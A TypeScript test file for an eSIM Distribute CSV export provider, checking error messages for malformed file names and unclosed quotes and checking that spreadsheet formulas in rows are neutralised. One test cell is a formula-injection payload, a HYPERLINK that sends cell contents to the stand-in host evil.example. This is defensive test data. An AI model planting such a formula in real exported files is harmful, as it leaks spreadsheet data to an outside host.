import { distributeProvider, EXPORT } from './distributeProvider';
import type { HostileServer } from './server';

const HEADER = 'orderNumber,status,customerName,phone\r\n';

describe('eSIM Distribute export: provider CSV is handled with care', () => {
	let server: HostileServer | undefined;
	afterEach(async () => await server?.close());

	it('a malformed Content-Disposition gives a clear error, not "URI malformed"', async () => {
		const provider = await distributeProvider(() => ({
			csv: `${HEADER}ED-1,pending,Jane,1\r\n`,
			disposition: "attachment; filename*=UTF-8''orders-%E0%A4%A.csv",
		}));
		server = provider;
		const { status, error } = await provider.run(EXPORT);
		process.stdout.write(
			`malformed Content-Disposition: ${JSON.stringify(error?.message ?? null)}\n`,
		);
		expect(status).toBe('error');
		expect(error?.message).toBe('eSIM Distribute sent the export with a malformed file name');
		expect(String(error?.description)).toMatch(/invalid percent-encoding/);
	});

	it('an unterminated quote gives a clear error instead of swallowing the rest of the file', async () => {
		const csv = `${HEADER}ED-1,pending,"Jane,1\r\nED-2,pending,Bob,2\r\nED-3,pending,Eve,3\r\n`;
		const provider = await distributeProvider(() => ({ csv }));
		server = provider;
		const { status, error, items } = await provider.run({
			...EXPORT,
			options: { includeRows: true },
		});
		process.stdout.write(
			`unterminated quote: status ${status}, ${items.length} rows, ${JSON.stringify(error?.message ?? null)}\n`,
		);
		expect(status).toBe('error');
		expect(error?.message).toBe(
			'eSIM Distribute sent an export that is not valid CSV: a quoted field that starts on line 2 is never closed, so the rest of the file cannot be read',
		);
	});

	it('rows as items have spreadsheet formulas neutralised by default, numbers and the file left alone', async () => {
		const cells = [
			'=HYPERLINK("http://evil.example/?x="&A1,"click")',
			'+1+2',
			'-2+3',
			'@SUM(A1:A9)',
			'\tTAB',
			'plain',
			'-5',
			'+44.5',
		];
		const csv = `${HEADER}${cells.map((cell, n) => `ED-${n},pending,"${cell.replace(/"/g, '""')}",${n}`).join('\r\n')}\r\n`;
		const provider = await distributeProvider(() => ({ csv }));
		server = provider;
		const { items } = await provider.run({ ...EXPORT, options: { includeRows: true } });
		const names = items.map((item) => item.json.customerName);
		process.stdout.write(`formulas: ${JSON.stringify(names)}\n`);
		expect(names).toEqual([
			`'${cells[0]}`,
			"'+1+2",
			"'-2+3",
			"'@SUM(A1:A9)",
			"'\tTAB",
			'plain',
			'-5',
			'+44.5',
		]);
		const file = Buffer.from(String(items[0].binary?.data.data), 'base64').toString('utf8');
		expect(file).toBe(csv);
		const off = await provider.run({
			...EXPORT,
			options: { includeRows: true, neutraliseFormulas: false },
		});
		expect(off.items.map((item) => item.json.customerName)).toEqual(cells);
	});
});
